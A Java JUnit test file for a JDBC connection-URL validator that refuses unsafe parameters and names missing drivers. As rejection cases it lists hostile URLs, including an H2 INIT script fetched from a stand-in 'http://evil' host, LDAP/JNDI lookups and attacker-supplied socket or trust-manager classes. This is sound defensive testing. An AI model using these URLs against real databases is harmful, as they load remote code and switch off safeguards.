package io.tidegate.agent.source.sql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Path;

/** What a URL may say. */
class JdbcUrlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/db?socketFactory=evil.Factory",
                "jdbc:postgresql://h/db?sslmode=require&loggerFile=/etc/passwd",
                "jdbc:postgresql://h/db?options=-c%20default_transaction_read_only=off",
                "jdbc:postgresql://h/db?user=a&password=b",
                "jdbc:mariadb://h/db?allowLocalInfile=true",
                "jdbc:mysql://h/db?autoDeserialize=true",
                "jdbc:sqlserver://h;databaseName=d;trustManagerClass=evil.Trust",
                "jdbc:mariadb://address=(host=h)(localSocket=/tmp/s)/db",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:tcp://h/db;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:~/acd",
                "jdbc:hsqldb:file:/tmp/acd",
                "jdbc:oracle:thin:@ldap://h/cn=x",
                "jdbc:oracle:thin:@ACD?TNS_ADMIN=/tmp",
                "jdbc:oracle:oci:@h:1521/x",
                "jdbc:db2://h:50000/db:clientRerouteServerListJNDIName=ldap://evil;",
                "jdbc:db2://h:50000/db:traceFile=/tmp/x;",
                "jdbc:informix-sqli://h:1/db:SQLH_TYPE=LDAP;LDAP_URL=ldap://evil",
                "jdbc:IRIS://h:1972/NS/trace.log",
                "jdbc:firebirdsql:embedded:/tmp/x.fdb",
                "jdbc:derby:memory:x;create=true",
                "jdbc:unheard://h:1/db?any=thing"
            })
    void parametersThatLoadCodeOrSwitchOffSafeguardsAreRefused(String url) {
        assertThrows(BadQueryException.class, () -> of(url));
    }

    /** Which is said before any driver is looked for. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:oracle:thin:@//h:1521/ACD | ojdbc17.jar for jdbc:oracle: into ",
                "jdbc:oracle:thin:@h:1521:ACD | ojdbc17.jar for jdbc:oracle: into ",
                "jdbc:informix-sqli://h:50000/cms:INFORMIXSERVER=o;DB_LOCALE=en_us.utf8 | for jdbc:informix-sqli: into ",
                "jdbc:db2://h:50000/db:sslConnection=true; | for jdbc:db2: into ",
                "jdbc:IRIS://h:1972/NS | intersystems-jdbc.jar for jdbc:IRIS: into ",
                "jdbc:firebirdsql://h:3050/acd?encoding=UTF8 | for jdbc:firebirdsql: into ",
                "jdbc:unheard://h:1/db | the driver's jar that its vendor publishes for jdbc:unheard: into "
            })
    void aMissingDriverIsNamedWithItsFolder(String url, String sentence) {
        String said = assertThrows(BadQueryException.class, () -> of(url)).getMessage();

        assertTrue(said.startsWith("database.acd.url needs a driver that is not built in: "), said);
        assertTrue(said.contains(sentence), said);
    }

    private static JdbcUrl of(String url) throws BadQueryException {
        return JdbcUrl.of(
                AcdDatabase.config(url, "reader", "secret"), new Drivers(Path.of("none")));
    }

    @Test
    void theRefusalNamesWhatIsAllowed() {
        var refused =
                assertThrows(
                        BadQueryException.class, () -> of("jdbc:mariadb://h/db?password=secret"));

        assertEquals(
                "database.acd.url holds the parameter password, which is not allowed: allowed are"
                        + " sslMode, useCompression; what else is needed has a setting of its own",
                refused.getMessage());
    }

    @Test
    void whereAndHowSafelyMayBeSaid() throws Exception {
        var url = of("jdbc:postgresql://a:5432,b/db?sslmode=verify-full&targetServerType=any");

        assertTrue(url.verified());
        assertEquals(
                "jdbc:mariadb://h/db?sslMode=trust", of("jdbc:mysql://h/db?sslMode=trust").text());
        of("jdbc:sqlserver://h\\inst:1433;databaseName=d;encrypt=strict;");
    }
}
